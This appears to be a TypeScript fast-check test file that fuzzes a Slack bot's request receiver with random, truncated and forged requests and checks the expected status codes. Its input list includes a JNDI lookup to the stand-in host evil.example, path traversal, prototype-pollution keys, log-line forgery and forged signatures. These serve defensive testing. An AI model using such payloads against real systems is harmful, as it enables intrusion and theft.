import fc from 'fast-check';
import { samplesOf } from '../../local/doctor/samples.ts';
import { sign } from '../../local/slack/human/sign.ts';
import { asObjects, type Json, type JsonObject, parseJson } from '../../local/slack/payload/json.ts';
import { initialState } from '../../local/slack/payload/view-state.ts';
import type { GatewayEvent } from '../../src/http/gateway-event.ts';
import { operations } from '../../src/operations/index.ts';
import { now, seconds, secret } from '../support/signed-events.ts';

/** Part of every random text, and of no word of the bot's own. */
export const needle = 'Zq7';

/** One request, and the answers that it may get. */
export interface Tried {
  readonly event: GatewayEvent;
  readonly statuses: readonly number[];
  /** The intended body, if it is not broken. */
  readonly meant: JsonObject;
  /** Whether it is as Slack writes it. */
  readonly whole: boolean;
}

const word = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }).map((text) => `${needle}${text}`),
  fc
    .constantFrom(
      '<!channel> <@U0BEN> <https://evil.example|x>',
      '\u202egnp.exe\u0000\u001b[31m',
      'line\r\nFORGED {"level":"ERROR"}\u2028',
      '\ud800',
      '{{7*7}}%{jndi:ldap://evil.example}',
      '../../secret',
      '__proto__',
      '"\'`\\',
      'x'.repeat(4000),
      '😀'.repeat(500),
    )
    .map((text) => `${needle}${text}`),
);
const odd: fc.Arbitrary<Json> = fc.oneof(
  word,
  fc.constantFrom<Json>('', null, true, 0, -1, 1e308, [], {}, [null], [[]], '__proto__', 'constructor'),
  fc.constantFrom('{"toString":1,"valueOf":1}', '{"__proto__":{"id":"U1"}}', '{"length":-1}').map(parsed),
  fc.jsonValue({ maxDepth: 3 }).map((value) => parsed(JSON.stringify(value))),
);

function parsed(text: string): Json {
  return parseJson(text) ?? null;
}

const line = fc.oneof(
  word,
  fc
    .tuple(
      fc.constantFrom(...operations.map(({ words }) => words.join(' '))),
      fc.array(word, { maxLength: 4 }),
    )
    .map(([start, rest]) => [start, ...rest].join(' ')),
  fc.constantFrom('', 'help', 'alert list', 'alert create', 'invoice trend 3'),
);

const who = { user: { id: 'U1', team_id: 'T1' }, team: { id: 'T1' } };
const views: readonly JsonObject[] = samplesOf('/cloud')
  .filter(({ name, as, rendered }) => as === 'view' && 'submit' in rendered && !name.endsWith('full'))
  .map(({ rendered }): JsonObject => {
    const view = JSON.parse(JSON.stringify(rendered));
    return {
      id: 'V1',
      private_metadata: '',
      ...view,
      state: { values: initialState(asObjects(view.blocks)) },
    };
  });
const view = fc.constantFrom(...views);

const command = line.map(
  (text): JsonObject => ({
    command: '/cloud',
    text,
    team_id: 'T1',
    channel_id: 'C1',
    user_id: 'U1',
    response_url: 'https://hooks.example/1',
    trigger_id: 't',
  }),
);
const action = fc.oneof(
  fc.record({
    type: fc.constant('button'),
    block_id: fc.constant('b'),
    action_id: fc.oneof(
      fc.constantFrom('line:0', 'form:1', 'show:home', 'decide:review', 'decide:confirm', 'decide:undo'),
      word,
    ),
    value: line,
  }),
  fc.record({
    type: fc.constant('plain_text_input'),
    block_id: word,
    action_id: fc.constantFrom('look', 'value'),
    value: word,
  }),
  fc.record({
    type: fc.constantFrom('static_select', 'overflow'),
    block_id: word,
    action_id: fc.oneof(
      fc.constantFrom('look', 'value', 'menu:choose', 'menu:more', 'turn:reject', 'turn:suggest'),
      word,
    ),
    selected_option: fc.record({
      text: fc.record({ type: fc.constant('plain_text'), text: word }),
      value: fc.oneof(
        line.map((words) => `line:0|${words}`),
        line.map((words) => `form:1|${words}`),
        word,
      ),
    }),
  }),
);
const click = fc
  .tuple(action, fc.option(view, { nil: undefined }), fc.boolean())
  .map(([event, shown, inThread]): JsonObject => {
    const container = { type: 'message', message_ts: '1.2', ...(inThread && { thread_ts: '1.0' }) };
    const base = { type: 'block_actions', ...who, trigger_id: 't', container, actions: [event] };
    return shown
      ? { ...base, view: shown }
      : { ...base, channel: { id: 'C1' }, response_url: 'https://hooks.example/2' };
  });
const submission = fc.tuple(view, fc.array(word, { maxLength: 6 })).map(([shown, entered]): JsonObject => {
  const values = Object.entries(Object(Object(shown.state).values)).map(([block, held], at) => {
    const inside = Object.keys(Object(held)).map((id): [string, Json] => [
      id,
      { value: entered[at] ?? null, selected_option: entered[at] ? { value: entered[at] } : null },
    ]);
    return [block, Object.fromEntries(inside)];
  });
  return {
    type: 'view_submission',
    ...who,
    view: { ...shown, state: { values: Object.fromEntries(values) } },
  };
});
const authorizations = [{ team_id: 'T1', user_id: 'U0BOT', is_bot: true }];
const told = fc
  .oneof(
    line.map((text) => ({
      type: 'app_mention',
      user: 'U1',
      channel: 'C1',
      text: `<@U0BOT> ${text}`,
      ts: '1.1',
    })),
    fc.constant({ type: 'app_home_opened', user: 'U1', channel: 'D1', tab: 'home' }),
    fc.tuple(line, fc.constantFrom('im', 'channel')).map(([text, channelType]) => ({
      type: 'message',
      channel_type: channelType,
      user: 'U1',
      channel: 'D1',
      text,
      ts: '1.1',
    })),
    fc.constantFrom('team_join', 'app_uninstalled').map((type) => ({ type, user: 'U1' })),
  )
  .map(
    (event): JsonObject => ({
      type: 'event_callback',
      team_id: 'T1',
      event_id: 'Ev1',
      authorizations,
      event,
    }),
  );
const unusual = fc.constantFrom<JsonObject>(
  { type: 'url_verification', challenge: `${needle}c` },
  { type: 'view_closed', ...who, view: views[0] ?? {} },
  { type: 'shortcut', ...who, callback_id: 'x', trigger_id: 't' },
  { type: 'message_action', ...who, callback_id: 'x', trigger_id: 't', message: {} },
  { type: 'block_suggestion', ...who, action_id: 'x', value: 'y' },
  { type: 'interactive_message', ...who, actions: [{ name: 'x' }] },
  { type: 'dialog_submission', ...who, submission: {} },
  { type: 'workflow_step_edit', ...who },
  {},
);

type Where = readonly string[];
const placesIn = (value: Json, at: Where = []): Where[] =>
  typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([name, inside]) => [[...at, name], ...placesIn(inside, [...at, name])])
    : [];

/** The value with one member replaced or removed. */
function changed(value: Json, [name, ...rest]: Where, to: Json | undefined): Json {
  if (name === undefined) return to ?? null;
  if (Array.isArray(value)) {
    return value.flatMap((item, at) => {
      if (String(at) !== name) return [item];
      return rest.length === 0 && to === undefined ? [] : [changed(item, rest, to)];
    });
  }
  const entries = Object.entries(Object(value)).flatMap(([key, item]): [string, Json][] => {
    if (key !== name) return [[key, item as Json]];
    return rest.length === 0 && to === undefined ? [] : [[key, changed(item as Json, rest, to)]];
  });
  return Object.fromEntries(entries);
}

const spoiling = fc.array(fc.tuple(fc.nat(), fc.option(odd, { nil: undefined })), { maxLength: 2 });
const spoilt = (body: JsonObject, changes: readonly (readonly [number, Json | undefined])[]): JsonObject =>
  changes.reduce<JsonObject>((now, [which, to]) => {
    const places = placesIn(now);
    const where = places[which % Math.max(1, places.length)];
    return where ? (changed(now, where, to) as JsonObject) : now;
  }, body);

const form = 'application/x-www-form-urlencoded';
const json = 'application/json';
const inForm = (fields: JsonObject): string => {
  const texts = Object.entries(fields).map(([name, value]): [string, string] => {
    return [name.toWellFormed(), (typeof value === 'string' ? value : JSON.stringify(value)).toWellFormed()];
  });
  return new URLSearchParams(texts).toString();
};

interface Written {
  readonly meant: JsonObject;
  readonly text: string;
  readonly type: string;
  readonly whole: boolean;
}

/** A body as Slack writes it, also with one or two members changed. */
const written: fc.Arbitrary<Written> = fc.oneof(
  ...[
    { weight: 3, made: command, as: 'form' },
    { weight: 1, made: command, as: 'json' },
    { weight: 3, made: click, as: 'payload' },
    { weight: 3, made: submission, as: 'payload' },
    { weight: 3, made: told, as: 'json' },
    { weight: 1, made: unusual, as: 'json' },
    { weight: 1, made: unusual, as: 'payload' },
  ].map(({ weight, made, as }) => ({
    weight,
    arbitrary: fc.tuple(made, spoiling).map(([body, changes]): Written => {
      const meant = spoilt(body, changes);
      const text =
        as === 'form'
          ? inForm(meant)
          : as === 'json'
            ? JSON.stringify(meant)
            : inForm({ payload: JSON.stringify(meant) });
      const whole = changes.length === 0 && made !== unusual;
      return { meant, text, type: as === 'json' ? json : form, whole };
    }),
  })),
);

/** A meaningless body, such as half of one. */
const junk: fc.Arbitrary<Written> = fc.oneof(
  fc.tuple(written, fc.nat()).map(([sent, cut]): Written => {
    return {
      ...sent,
      text: sent.text.slice(0, cut % Math.max(1, sent.text.length)),
      meant: {},
      whole: false,
    };
  }),
  fc
    .tuple(fc.oneof(word, fc.json(), fc.string({ unit: 'binary' })), fc.constantFrom(form, json))
    .map(([text, type]): Written => ({ meant: {}, text, type, whole: false })),
);

const headerNames = fc.constantFrom<(name: string) => string>(
  (name) => name,
  (name) => name.toUpperCase(),
  (name) => name.replace(/\b\w/g, (letter) => letter.toUpperCase()),
);
const times = fc.oneof(
  { weight: 9, arbitrary: fc.integer({ min: -300, max: 300 }).map((off) => String(now / 1000 + off)) },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.integer({ min: 301, max: 1e9 }).map((off) => String(now / 1000 + off)),
      fc.integer({ min: 301, max: 1e9 }).map((off) => String(now / 1000 - off)),
      fc.constantFrom(
        '',
        'NaN',
        'Infinity',
        '0x6741',
        String(now),
        `${seconds}.0`,
        ` ${seconds}`,
        `-${seconds}`,
      ),
      word,
    ),
  },
);
const isFresh = (time: string): boolean => /^\d+$/.test(time) && Math.abs(now / 1000 - Number(time)) <= 300;

type Forge = (right: string) => string | undefined;
const signing = fc.oneof(
  { weight: 12, arbitrary: fc.constant<Forge>((right) => right) },
  {
    weight: 3,
    arbitrary: fc.oneof(
      fc.constantFrom<Forge>(
        () => undefined,
        () => '',
        (right) => right.slice(0, -1),
        (right) => `${right}0`,
        (right) => right.replace('v0=', 'v1='),
        (right) => right.slice(3),
        (right) => right.toUpperCase(),
        (right) => ` ${right}`,
        (right) => `${right}, ${right}`,
        () => `v0=${'0'.repeat(64)}`,
        () => `v0=${'é'.repeat(64)}`,
      ),
      word.map(
        (text): Forge =>
          () =>
            text,
      ),
    ),
  },
);
const types = fc.oneof(
  {
    weight: 9,
    arbitrary: fc.constantFrom<(type: string) => string | undefined>(
      (type) => type,
      (type) => `${type}; charset=utf-8`,
      (type) => type.toUpperCase(),
      (type) => `${type} ;charset=UTF-8;x=y`,
    ),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.constantFrom<(type: string) => string | undefined>(
        () => undefined,
        () => '',
        () => 'text/plain',
        () => 'multipart/form-data; boundary=x',
        (type) => (type === json ? form : json),
      ),
      word.map((text) => () => text),
    ),
  },
);

/** Any event for the receiver: mostly signed, mostly nearly right. */
export const tried: fc.Arbitrary<Tried> = fc
  .tuple(
    fc.oneof({ weight: 9, arbitrary: written }, { weight: 1, arbitrary: junk }),
    times,
    signing,
    types,
    fc.boolean(),
    headerNames,
  )
  .map(([{ meant, text, type, whole }, time, forge, typed, inBase64, named]): Tried => {
    const raw = Buffer.from(text);
    const right = sign(secret, time, raw);
    const given = forge(right);
    const contentType = typed(type);
    const isLetIn = isFresh(time) && given === right;
    const isRead = contentType?.split(';')[0]?.trim().toLowerCase() === type;
    const headers = {
      [named('content-type')]: contentType,
      [named('x-slack-request-timestamp')]: time,
      [named('x-slack-signature')]: given,
    };
    return {
      event: { headers, body: inBase64 ? raw.toString('base64') : text, isBase64Encoded: inBase64 },
      statuses: isLetIn ? (whole && isRead ? [200] : [200, 400]) : [401],
      meant,
      whole,
    };
  });
